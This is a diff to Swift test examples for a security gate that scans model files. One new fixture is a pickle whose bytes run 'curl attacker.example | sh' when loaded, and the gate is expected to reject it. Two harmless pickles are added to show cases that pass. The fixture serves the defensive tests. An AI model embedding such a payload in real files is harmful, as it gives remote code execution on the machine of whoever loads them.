@@ -3,7 +3,39 @@ import ModelGate
 /// The security gate's worked examples: documentation and tests at once. Tokens are made up in
 /// the issuers' published shapes; none is a real credential.
 enum SecurityExamples {
-    static let all: [GateExample] = [cleanPinned, committedToken, swappedArtifact, unlistedFile, badPin]
+    static let all: [GateExample] = [cleanPinned, committedToken, swappedArtifact, unlistedFile, picklingCodeExecution, safePickle,
+                                     unknownGlobal, badPin]
+
+    static let picklingCodeExecution = GateExample(
+        "A pickle that runs a shell command when loaded fails, whatever the file is called",
+        yaml: """
+        id: release
+        type: security
+        paths: [weights.bin]
+        """,
+        files: ["weights.bin": "cos\nsystem\n(S'curl attacker.example | sh'\ntR."],
+        expect: .fail, metrics: ["critical_findings": 1])
+
+    static let safePickle = GateExample(
+        "A pickle that only rebuilds a collections.OrderedDict passes (protocol 2, bytes shown in hex)",
+        yaml: """
+        id: release
+        type: security
+        paths: [state.pkl]
+        """,
+        files: ["state.pkl": .bytes([0x80, 0x02] + Array("ccollections\nOrderedDict\nq".utf8) + [0x00, 0x29, 0x52, 0x71, 0x01, 0x2E])],
+        expect: .pass, metrics: ["findings": 0])
+
+    static let unknownGlobal = GateExample(
+        "A team's own class passes only when allow_globals names it",
+        yaml: """
+        id: release
+        type: security
+        paths: [model.pkl]
+        allow_globals: [acme.models.*]
+        """,
+        files: ["model.pkl": .bytes([0x80, 0x02] + Array("cacme.models.scoring\nRiskModel\nq".utf8) + [0x00, 0x29, 0x81, 0x71, 0x01, 0x2E])],
+        expect: .pass, metrics: ["findings": 0])
 
     static let cleanPinned = GateExample(
         "A model file whose bytes match its pin, beside a clean config",
